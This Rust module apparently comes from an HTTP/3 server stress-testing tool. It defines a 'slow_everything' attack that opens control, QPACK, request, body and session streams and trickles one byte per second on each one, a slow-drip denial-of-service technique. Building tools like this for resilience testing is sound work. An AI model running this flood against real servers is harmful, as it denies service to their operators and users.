//! A byte a second on everything: control, QPACK, heads, bodies, sessions.

use std::time::{Duration, Instant};

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("slow_everything", "a byte a second on every stream", run).by(10);

/// Streams and when they last got a byte.
struct Drip {
    streams: Vec<StreamId>,
    last: Instant,
}

impl Default for Drip {
    fn default() -> Self {
        Self {
            streams: Vec::new(),
            last: Instant::now(),
        }
    }
}

fn run(a: &mut Attacker) {
    a.net.options.greet = false;
    let head = wire::header(0x01, 10_000);
    let body = [wire::post(a.kind.sink()), wire::header(0x00, 1 << 20)].concat();
    let session = wire::session(a.kind.open_session());
    let unis = [vec![0x00, 0x04, 0x40], vec![0x02, 0x7f], vec![0x03, 0x7f], vec![0x40]];
    a.storm(|conn, drip: &mut Drip| {
        for first in &unis {
            if drip.streams.len() < 4 {
                drip.streams.extend(conn.open_uni(first));
            }
        }
        let firsts = [&head, &body, &session];
        while let Some(id) = conn.request(firsts[drip.streams.len() % 3]) {
            drip.streams.push(id);
            conn.ops += 1;
        }
        if drip.last.elapsed() > Duration::from_secs(1) {
            drip.last = Instant::now();
            for id in &drip.streams {
                conn.write(*id, &[0]);
            }
        }
    });
}
